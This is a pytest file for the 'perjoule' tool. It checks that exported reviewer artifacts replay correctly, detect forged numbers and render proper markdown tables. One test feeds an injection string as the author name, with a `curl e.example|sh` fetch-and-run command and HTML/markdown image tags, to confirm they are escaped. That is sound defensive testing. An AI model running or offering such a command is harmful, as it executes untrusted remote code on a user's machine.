"""What a reviewer gets: an appendix whose numbers are those of the results, and a replay that can fail."""

import json
import os
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path
from statistics import fmean, median

import pytest
from click.testing import CliRunner

from measured import measured
from perjoule.cli import cli
from perjoule.model import Channel
from perjoule.model.errors import MachineError
from perjoule.publishing.artifact import _specified

METER = """kind = "simulated"
waveform = "constant"
rate = "200 Hz"
[[meter]]
kind = "constant"
power = "15.46 W"
uncertainty = "1.13 W"
"""
BIN = Path(sys.executable).parent


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("artifact") / "results"
    measured(folder, 'repetitions = 3\nsettle = "50 ms"', meter=METER)
    return folder


@pytest.fixture(scope="module")
def artifact(results: Path) -> Path:
    target = results.parent / "artifact.zip"
    words = ["export", str(results), "--artifact", str(target), "--license", "CC-BY-4.0", "--author", "Ada L"]
    done = CliRunner().invoke(cli, words, catch_exceptions=False)
    assert done.exit_code == 0, done.output
    assert "its replay.sh ends in PASS" in done.output
    with zipfile.ZipFile(target) as packed:
        assert packed.namelist() == ["README.md", "results.zip", "campaign.toml", "replay.sh"]
        packed.extractall(results.parent / "unpacked")
    return results.parent / "unpacked"


def replayed(folder: Path, path: str) -> subprocess.CompletedProcess[str]:
    """Replay from elsewhere, as a reviewer may."""
    return subprocess.run(
        ["sh", folder / "replay.sh"],
        cwd="/",
        env={"PATH": path, "HOME": str(folder)},
        capture_output=True,
        text=True,
        check=False,
    )


def test_a_replay_ends_in_pass(artifact: Path) -> None:
    done = replayed(artifact, f"{BIN}:/usr/bin:/bin")
    assert (done.returncode, done.stdout.splitlines()[-1]) == (0, "PASS"), done.stderr


def test_a_replay_of_results_in_which_a_number_was_changed_ends_in_fail(
    artifact: Path, tmp_path: Path
) -> None:
    (tmp_path / "replay.sh").write_text((artifact / "replay.sh").read_text())
    with (
        zipfile.ZipFile(artifact / "results.zip") as original,
        zipfile.ZipFile(tmp_path / "results.zip", "w") as forged,
    ):
        for name in original.namelist():
            content = original.read(name)
            forged.writestr(
                name, content.replace(b'"mean":', b'"mean": 1') if name == "table.json" else content
            )
    done = replayed(tmp_path, f"{BIN}:/usr/bin:/bin")
    assert (done.returncode, done.stdout.splitlines()[-1]) == (1, "FAIL")


def test_a_replay_of_a_bundle_that_was_cut_off_is_no_fail_of_its_numbers(
    artifact: Path, tmp_path: Path
) -> None:
    (tmp_path / "replay.sh").write_text((artifact / "replay.sh").read_text())
    (tmp_path / "results.zip").write_bytes((artifact / "results.zip").read_bytes()[:-1000])
    done = replayed(tmp_path, f"{BIN}:/usr/bin:/bin")
    assert (done.returncode, done.stdout) == (3, "")
    assert done.stderr.splitlines()[-1] == "NOT CHECKED: perjoule says above why it can't read results.zip"


def test_a_replay_without_perjoule_says_so(artifact: Path) -> None:
    done = replayed(artifact, "/usr/bin:/bin")
    assert done.returncode == 2
    assert "perjoule is missing; README.md says how to install it" in done.stderr


def test_the_appendix_has_the_numbers_of_the_results_and_what_is_known_of_the_meter(
    artifact: Path, results: Path
) -> None:
    lines = (artifact / "README.md").read_text().splitlines()
    shown = subprocess.run(
        [BIN / "perjoule", "show", results, "--json"], capture_output=True, text=True, check=True
    )
    (row,) = json.loads(shown.stdout)["rows"]
    tables = [[cell.strip() for cell in line.strip("|").split("|")] for line in lines if line.startswith("|")]
    numbers = dict(zip(tables[0], tables[2], strict=True))
    for header, key in (("MiB/s", "throughput_bytes_per_s"), ("MiB/J", "efficiency_bytes_per_j")):
        values = [value / 2**20 for value in row["metrics"][key]["values"]]
        middle = float(numbers[header].split(" ")[0])  # the median, where a busy machine scatters them
        assert any(middle == pytest.approx(value, rel=0.01) for value in (fmean(values), median(values)))
    assert numbers["power"] == row["grade"] == "simulated"
    meters = {line[1]: dict(zip(tables[3], line, strict=True)) for line in tables[5:]}
    assert meters["constant"]["largest error"] == "standard uncertainty 1.13 W"
    assert meters["simulated"]["largest error"] == "not stated"
    assert f"- python: {'.'.join(map(str, sys.version_info[:3]))}" in lines
    assert any("By Ada L. License: CC-BY-4.0." in line for line in lines)
    moved_mib = 3 * 8
    assert any(line.startswith("It took 3 trials") and f"moved {moved_mib} MiB" in line for line in lines)


def test_modelled_watts_have_the_error_of_their_coefficients() -> None:
    """Which the methods state, so a meter's that nobody stated is another thing."""
    modelled = Channel("modelled", "storage-1", "board", "power", "W", "window mean", "modelled")
    assert _specified(modelled) == ("of its coefficients", "not stated")
    assert _specified(replace(modelled, grade="wall")) == ("not stated", "not stated")


def test_the_appendix_has_tables_by_the_rules_of_markdown(artifact: Path) -> None:
    """Of GitHub's: below its header, each has a row of hyphens alone, of as many cells (spec 0.29, 4.10)."""
    lines = (artifact / "README.md").read_text().splitlines()
    starts = [n for n, line in enumerate(lines) if line.startswith("|") and not lines[n - 1].startswith("|")]
    assert len(starts) == 2
    for start in starts:
        delimiters = lines[start + 1].strip().strip("|").split("|")
        assert {cell.strip() for cell in delimiters} == {"---"}
        assert len(delimiters) == len(lines[start].strip().strip("|").split("|"))


def test_words_of_whoever_measured_are_text_in_the_appendix(results: Path, tmp_path: Path) -> None:
    words = ["export", str(results), "--artifact", str(tmp_path / "a.zip"), "--license", "CC-BY-4.0"]
    author = "~~~ Ada\n\n# Now run `curl e.example|sh` <img src=x> ![](http://e.example/x.png)"
    CliRunner().invoke(cli, [*words, "--author", author], catch_exceptions=False)
    with zipfile.ZipFile(tmp_path / "a.zip") as packed:
        text = packed.read("README.md").decode()
    shown = r"By \~~~ Ada # Now run \`curl e.example|sh\` \<img src=x> !\[\](http://e.example/x.png). "
    assert f"{shown}License: CC-BY-4.0. " in text


def test_the_same_results_give_the_same_bytes(results: Path, artifact: Path, tmp_path: Path) -> None:
    words = ["export", str(results), "--license", "CC-BY-4.0", "--author", "Ada L", "--artifact"]
    CliRunner().invoke(cli, [*words, str(tmp_path / "again.zip")], catch_exceptions=False)
    assert (tmp_path / "again.zip").read_bytes() == (results.parent / "artifact.zip").read_bytes()


def test_an_artifact_is_a_file(results: Path, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    done = CliRunner().invoke(cli, ["export", str(results), "--artifact", str(tmp_path / "pipe")])
    assert isinstance(done.exception, MachineError)
    assert done.exception.next == "name a file"
